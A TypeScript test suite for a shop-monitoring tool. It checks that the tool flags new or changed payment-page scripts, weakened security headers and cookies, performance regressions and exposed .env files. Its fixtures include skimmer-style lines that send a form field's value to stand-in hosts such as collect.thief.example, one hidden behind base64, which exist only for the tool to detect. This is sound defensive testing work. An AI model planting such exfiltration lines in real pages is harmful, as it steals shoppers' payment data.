import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { exchange, goldenInspection, got, homePage } from '../checks/golden-inspection.ts';
import { judgeInspection } from '../checks/judge-inspection.ts';
import { goldenPayment, goldenScript } from '../checks/payment/golden-payment.ts';
import { shapeOf } from '../checks/payment/shape-of.ts';
import type { Inspection, PaymentPage, Script } from '../inspection.ts';
import { readBaseline, writeBaseline } from './baseline.ts';
import { compareHeaders } from './compare-headers.ts';
import { budgetRows, compareMeasures } from './compare-measures.ts';
import { compareScripts, goneFrom } from './compare-page.ts';
import { itemsOf, unknownsOf } from './items-of.ts';
import { mergeBaseline } from './merge-baseline.ts';
import { headersOf, type MeasuredPage, type Seen, seenOf } from './seen.ts';

const script = (url: string, party: Script['party'] = 'first', shape = 'a'.repeat(64)): Script =>
  goldenScript({ url, party, hash: 'h', shape });
const payment = (target: string, scripts: readonly Script[], change: Partial<PaymentPage> = {}): PaymentPage =>
  goldenPayment({ url: `${target}/checkout`, finalUrl: `${target}/checkout`, scripts, ...change });
const look = (target: string, scripts: readonly Script[], change: Partial<PaymentPage> = {}) =>
  seenOf(goldenInspection({ target, payment: got(payment(target, scripts, change)) }), {}, null);
const agree = (seen: Seen) => mergeBaseline(null, { items: [], seen, sure: new Set(), today: '2026-01-01' });
const BEFORE = 'https://shop.example.com';
const NOW = 'https://pr-7.preview.example.net';

it('a new build on another host, in another order, brings no new script', () => {
  const before = look(BEFORE, [
    script(`${BEFORE}/js/app-BkZ8x_9a.js`),
    script(`${BEFORE}/js/pay.3fa9c1d2.js`),
    script('https://psp.example/v3/', 'third'),
  ]);
  const now = look(NOW, [
    script('https://psp.example/v3/', 'third'),
    script(`${NOW}/js/pay.99ffc1d2.js`),
    script(`${NOW}/js/app-DfT4kQ0z.js`),
  ]);
  expect(compareScripts(agree(before), now, NOW)).toEqual([]);
  expect(goneFrom(agree(before), now)).toEqual([]);
});

it('new scripts are graded by who may change them; one more chunk of a name is one more script', () => {
  const before = agree(look(BEFORE, [script(`${BEFORE}/js/chunk-7KXQ2J4M.js`), script(`${BEFORE}/old.js`)]));
  const now = look(NOW, [
    ...[script(`${NOW}/js/chunk-8KXQ2J4M.js`), script(`${NOW}/js/chunk-9KXQ2J4M.js`), script('https://tag.example/t.js', 'third')],
    ...[script(`${NOW}/checkout`, 'inline', 'b'.repeat(64)), script(`${NOW}/checkout`, 'eval', 'c'.repeat(64))],
  ]);
  expect(compareScripts(before, now, NOW).map(({ key, severity }) => `${severity} ${key}`)).toEqual([
    'low /js/chunk-*.js (2)',
    'high https://tag.example/t.js',
    `medium inline:${'b'.repeat(24)}`,
    `high eval:${'c'.repeat(24)}`,
  ]);
  expect(goneFrom(before, now)).toEqual(['script /old.js']);
});

const inline = (source: string): { readonly script: Script; readonly sources: Readonly<Record<string, string>> } => {
  const sha = (text: string) => createHash('sha256').update(text).digest('hex');
  const hash = sha(source);
  return {
    script: goldenScript({ url: `${NOW}/checkout`, party: 'inline', hash, shape: sha(shapeOf(source)) }),
    sources: { [hash]: source },
  };
};
const lookAtInline = (source: string) => {
  const { script: one, sources } = inline(source);
  return look(NOW, [one], { sources });
};
const CART = `var cart = { total: 12, token: 'aaaaaaaaaaaaaaaaaaaa' }; function show(n) { el.textContent = n; } show(cart.total); fetch('/api/cart'); track('seen'); track('shown');`;

describe('a script in the page itself', () => {
  const before = agree(lookAtInline(CART));

  it('that carries other numbers and texts is the same', () => {
    const now = lookAtInline(CART.replace('12', '99').replace('aaaaaaaaaaaaaaaaaaaa', 'bbbbbbbbbbbbbbbbbbbbbb'));
    expect(compareScripts(before, now, NOW)).toEqual([]);
  });

  it('of which only a long text changed is told as changed when that text names another host', () => {
    const now = lookAtInline(CART.replace('aaaaaaaaaaaaaaaaaaaa', 'https://collect.thief.example/p'));
    expect(compareScripts(before, now, NOW)).toMatchObject([
      {
        title: expect.stringContaining('The release changes a script in the payment page'),
        evidence: [expect.any(String), 'it now names collect.thief.example'],
      },
    ]);
    // Also behind an encoding that anybody undoes.
    const hidden = lookAtInline(CART.replace('aaaaaaaaaaaaaaaaaaaa', btoa('https://collect.thief.example/p')));
    expect(compareScripts(before, hidden, NOW)).toHaveLength(1);
  });

  it('that changed is told as changed, with its new lines and how many went, and keeps its owner; another one is new', () => {
    const owned = { ...before, scripts: before.scripts?.map((one) => ({ ...one, owner: 'Ada', reason: 'the cart' })) };
    const changed = lookAtInline(CART.replace("track('seen');", "send('https://new.example/x', el.value);"));
    const [item, ...rest] = compareScripts(owned, changed, NOW);
    expect(rest).toEqual([]);
    expect(item).toMatchObject({
      severity: 'medium',
      title: `The release changes a script in the payment page: ${before.scripts?.[0]?.key}`,
    });
    expect(item?.evidence).toEqual(
      expect.arrayContaining(['it now names new.example', "+ send('https://new.example/x', el.value);", '1 line of before is gone']),
    );
    expect(mergeBaseline(owned, { items: [], seen: changed, sure: new Set(), today: '2026-01-01' }).scripts).toMatchObject([
      { owner: 'Ada' },
    ]);
    const other = lookAtInline('document.querySelector("form").addEventListener("submit", go); function go(e) { e.preventDefault(); }');
    expect(compareScripts(before, other, NOW)).toMatchObject([{ title: expect.stringContaining('adds a script') }]);
  });

  it('is remembered by marks, not by its text, and a baseline from before these marks still reads', () => {
    const written = writeBaseline(before, 'b.yml');
    expect(written).not.toContain('textContent');
    expect(readBaseline(Buffer.from(written), 'b.yml').scripts).toEqual(before.scripts);
    const plain = { ...before, scripts: before.scripts?.map(({ trace: _trace, ...rest }) => rest) };
    expect(compareScripts(plain, lookAtInline(CART.replace("track('seen');", 'other();')), NOW)).toMatchObject([
      { title: expect.stringContaining('adds a script') },
    ]);
  });
});

it('a look that was cut short adds what it saw, and makes no inventory', () => {
  const before = agree(look(BEFORE, [script(`${BEFORE}/a.js`), script(`${BEFORE}/b.js`)]));
  const half = look(NOW, [script(`${NOW}/a.js`), script('https://tag.example/t.js', 'third')], { partial: 'cut' });
  expect(compareScripts(before, half, NOW)).toHaveLength(1);
  expect(mergeBaseline(before, { items: [], seen: half, sure: new Set(), today: '2026-01-01' }).scripts).toEqual(before.scripts);
  const elsewhere = look(NOW, [], { finalUrl: `${NOW}/cart` });
  expect([elsewhere.scripts, elsewhere.payment]).toEqual([null, `The payment page led elsewhere, to ${NOW}/cart.`]);
});

const headers = (given: Record<string, string>, cookies: string[] = [], target = BEFORE) =>
  ({ headers: { home: headersOf(given, cookies, target) } }) as unknown as Seen;
const weaker = (before: Seen, now: Seen) =>
  compareHeaders({ schema: 'shopbell.baseline/1', findings: [], headers: before.headers }, now, NOW).map(
    ({ severity, title }) => `${severity} ${title}`,
  );

it('nonces, hashes, order and the host of a policy are no difference', () => {
  const before = headers({ 'content-security-policy': `script-src 'nonce-abc' 'self' ${BEFORE}; default-src 'none'` });
  const now = headers({ 'content-security-policy': `default-src  'none' ; script-src ${NOW} 'self' 'nonce-xyz'` }, [], NOW);
  expect(weaker(before, now)).toEqual([]);
});

it.each([
  [{ 'x-frame-options': 'DENY' }, {}, ['medium x-frame-options is no longer sent on the home page']],
  [{}, { 'x-frame-options': 'DENY' }, []],
  [{}, { 'access-control-allow-origin': '*' }, ['medium access-control-allow-origin is now sent: * on the home page']],
  [
    { 'strict-transport-security': 'max-age=31536000; preload' },
    { 'strict-transport-security': 'max-age=60' },
    [
      'medium strict-transport-security holds 60 seconds, before 31536000 on the home page',
      'low strict-transport-security no longer says preload on the home page',
    ],
  ],
  [
    { 'content-security-policy': "default-src 'self'; img-src a.example" },
    { 'content-security-policy': "default-src 'self' data:; img-src a.example b.example" },
    [
      'medium content-security-policy now lets default-src take data: on the home page',
      'low content-security-policy now lets img-src take b.example on the home page',
    ],
  ],
  [{ 'content-security-policy': "script-src 'self' a.example" }, { 'content-security-policy': "script-src 'none'; object-src 'none'" }, []],
  [
    { 'content-security-policy': "frame-ancestors 'self'" },
    { 'content-security-policy': 'script-src x' },
    ['medium content-security-policy no longer says frame-ancestors on the home page'],
  ],
])('%j, then %j', (before, now, expected) => {
  expect(weaker(headers(before as Record<string, string>), headers(now as Record<string, string>))).toEqual(expected);
});

it('a session cookie that loses its protection is told', () => {
  expect(weaker(headers({}, ['sid=1; Secure; HttpOnly; SameSite=Lax']), headers({}, ['sid=2; Secure; SameSite=Strict']))).toEqual([
    'medium The cookie “sid” is no longer httponly on the home page',
  ]);
});

const measured = (change: Partial<MeasuredPage['measure']> = {}, spread = 0): MeasuredPage => ({
  measure: { weight: 1_000_000, scriptWeight: 300_000, scripts: 20, ttfb: 100, lcp: 1_000, cls: 0.01, ...change },
  ...{ spread: { ttfb: spread, lcp: spread, cls: 0 }, hosts: [], runs: 3 },
});
const over = (now: MeasuredPage, budgets = {}) => {
  const before = { schema: 'shopbell.baseline/1', findings: [], measures: { home: measured().measure } } as const;
  const seen = { measures: { home: now } } as unknown as Seen;
  return compareMeasures(budgetRows(before, seen, budgets), seen, NOW).map(({ key }) => key);
};

it('noise passes, more than noise does not, and a busy machine has more noise', () => {
  expect(over(measured({ weight: 1_099_000, lcp: 1_290, ttfb: 290, scripts: 22 }))).toEqual([]);
  expect(over(measured({ weight: 1_101_000, lcp: 1_310, ttfb: 310, scripts: 23, cls: 0.07 }))).toEqual([
    'home weight',
    'home scripts',
    'home ttfb',
    'home lcp',
    'home cls',
  ]);
  expect(over(measured({ lcp: 1_310 }, 800))).toEqual([]);
});

it('a budget stands instead of the baseline; without a figure it is unknown, not kept', () => {
  expect(over(measured({ weight: 2_000_000 }), { '*': { weight: 3_000_000 } })).toEqual([]);
  expect(over(measured(), { home: { weight: 10 }, '*': { weight: 3_000_000 } })).toEqual(['home weight budget']);
  const seen = { measures: { home: measured({ lcp: null }) } } as unknown as Seen;
  expect(budgetRows(null, seen, { home: { lcp: 2_000 } }).find(({ figure }) => figure === 'lcp')).toMatchObject({
    outcome: 'unknown',
    value: null,
  });
});

it('a baseline that is written anew does not creep within the noise', () => {
  const old = { schema: 'shopbell.baseline/1', findings: [], measures: { home: measured().measure } } as const;
  const seen = {
    scripts: null,
    payment: null,
    hosts: {},
    headers: {},
    components: null,
    measures: { home: measured({ lcp: 1_200, weight: 700_000 }) },
  };
  expect(mergeBaseline(old, { items: [], seen, sure: new Set(), today: '2026-01-01' }).measures?.home).toMatchObject({
    lcp: 1_000,
    weight: 700_000,
  });
});

const unknownIds = (change: Partial<Inspection>) => {
  const inspection = goldenInspection({ exposures: [], ...change });
  return unknownsOf(judgeInspection(inspection), inspection).map(({ id }) => id);
};

it('a check that found something and could not look at the rest is not whole', () => {
  const dump = {
    id: 'env',
    answer: got(exchange({ url: `${BEFORE}/.env`, body: 'APP_KEY=x\nDB_PASSWORD=y\n' })),
    beside: got(exchange({ status: 404 })),
  };
  const open = (answer: object) => ({ exposures: [dump, { id: 'git-config', answer, beside: null }] }) as Partial<Inspection>;
  const inspection = goldenInspection(open({ kind: 'unknown', reason: 'the site had stopped answering' }));
  expect(itemsOf(judgeInspection(inspection), BEFORE).map(({ check }) => check)).toContain('exposed-files');
  expect(unknownIds(open({ kind: 'unknown', reason: 'the site had stopped answering' }))).toContain('exposed-files');
  expect(unknownIds(open(got(exchange({ status: 429 }))))).toContain('exposed-files');
});

it('an error page is not the shop', () => {
  expect(unknownIds({ home: got(homePage({}, { status: 404 })) })).toContain('home');
});
